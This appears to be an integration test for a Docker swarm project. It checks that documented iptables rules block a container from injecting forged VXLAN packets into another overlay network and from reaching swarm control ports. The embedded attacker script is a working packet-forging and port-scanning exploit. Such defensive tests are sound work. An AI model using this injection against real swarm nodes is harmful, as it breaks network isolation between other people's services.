import { execFileSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { expect } from 'chai';
import type { Container } from 'dockerode';
import { DockerMachines, type DockerNode, NO_DOCKER, NODE_IMAGE } from '../../../support/docker.js';
import { eventually } from '../../../support/processes.js';

/** The firewall rules that docs/security.md tells operators to add on each node. */
const RULES = ['INPUT', 'DOCKER-USER'].flatMap((chain) =>
  ['udp --dports 4789,7946', 'tcp --dports 2376,2377,7946'].map((ports) => {
    const [protocol = '', ...dports] = ports.split(' ');
    return `iptables -I ${chain} -i docker_gwbridge -p ${protocol} -m multiport ${dports.join(' ')} -j DROP`;
  }),
);
const VICTIM = `require('node:dgram').createSocket('udp4').on('message', (text) => console.log(String(text))).bind(5000);`;
/** Sends packets to a network of other services, as another node would, and repeatedly lists its node's open ports. */
const attacker = (at: string, network: { vni: number; ip: string; mac: string }) => `
  const { vni, ip, mac } = ${JSON.stringify(network)};
  const sum = (head) => { let s = 0; for (let i = 0; i < 20; i += 2) s += head.readUInt16BE(i); while (s >> 16) s = (s & 0xffff) + (s >> 16); return ~s & 0xffff; };
  const packet = (text) => {
    const vxlan = Buffer.from([8, 0, 0, 0, vni >> 16, vni >> 8, vni, 0]);
    const ethernet = Buffer.from(mac.replaceAll(':', '') + '0242deadbeef0800', 'hex');
    const head = Buffer.alloc(20); head[0] = 0x45; head.writeUInt16BE(28 + text.length, 2); head[8] = 64; head[9] = 17;
    ip.split('.').forEach((part, i) => { head[16 + i] = Number(part); head[12 + i] = i === 3 ? 250 : Number(part); });
    head.writeUInt16BE(sum(head), 10);
    const udp = Buffer.alloc(8); udp.writeUInt16BE(666, 0); udp.writeUInt16BE(5000, 2); udp.writeUInt16BE(8 + text.length, 4);
    return Buffer.concat([vxlan, ethernet, head, udp, Buffer.from(text)]);
  };
  const socket = require('node:dgram').createSocket('udp4');
  const open = (port) => new Promise((resolve) => {
    const tried = require('node:net').connect({ host: '${at}', port, timeout: 500 }, () => { resolve(port); tried.destroy(); });
    for (const event of ['error', 'timeout']) tried.on(event, () => { resolve(0); tried.destroy(); });
  });
  (async () => {
    for (let round = 0; ; round++) {
      socket.send(packet('evil'), 4789, '${at}');
      console.log('round ' + round + ' [' + (await Promise.all([2376, 2377, 7946].map(open))).filter(Boolean) + ']');
    }
  })();`;

const suite = NO_DOCKER === '' ? describe : describe.skip;

suite(`Overlay networks of a swarm${NO_DOCKER === '' ? '' : `: ${NO_DOCKER}`}`, function () {
  this.timeout(240_000);
  let machines: DockerMachines;
  let node: DockerNode;

  before(async () => {
    machines = await DockerMachines.create();
    node = await machines.addManager();
    await node.importNode();
    for (const Name of ['own', 'foreign']) {
      await node.docker.createNetwork({ Name, Driver: 'overlay', Attachable: true });
    }
  });
  after(() => machines?.destroy());

  async function container(network: string, script: string): Promise<Container> {
    const made = await node.docker.createContainer({
      Image: NODE_IMAGE,
      Cmd: ['node', '-e', script],
      HostConfig: { NetworkMode: network, CapDrop: ['NET_RAW', 'MKNOD'] },
    });
    await made.start();
    return made;
  }
  const output = async (of: Container) => (await of.logs({ stdout: true, stderr: true })).toString('latin1');
  const count = (text: string, word: string) => text.split(word).length - 1;

  it('take packets from containers of others, until the rules that operators are told to set close this', async () => {
    const victim = await container('foreign', VICTIM);
    const { NetworkSettings } = await victim.inspect();
    const { IPAddress: ip = '', MacAddress: mac = '' } = NetworkSettings.Networks.foreign ?? {};
    const { Options = {} } = await node.docker.getNetwork('foreign').inspect();
    const vni = Number(Options['com.docker.network.driver.overlay.vxlanid_list']);
    const hostile = await container('own', attacker(node.address, { vni, ip, mac }));
    await eventually('the attack finds what is open', async () => (await output(victim)).includes('evil'));
    await eventually('the ports are open', async () => (await output(hostile)).includes('[2377,7946]'));

    for (const rule of RULES) execFileSync('nsenter', ['-t', String(node.pid), '-n', ...rule.split(' ')]);
    // On a busy machine, the log of the victim comes late.
    await eventually('a round finds nothing open', async () => (await output(hostile)).trim().endsWith('[]'));
    const reached = count(await output(victim), 'evil');
    const rounds = count(await output(hostile), 'round');
    await eventually('it has tried again', async () => count(await output(hostile), 'round') > rounds + 3);
    expect((await output(hostile)).trim()).to.match(/\[\]$/);
    // One packet may have been on its way.
    expect(count(await output(victim), 'evil')).to.be.at.most(reached + 1);
    const documented = await readFile('docs/security.md', 'utf8');
    for (const rule of RULES) expect(documented).to.include(rule);
  });
});
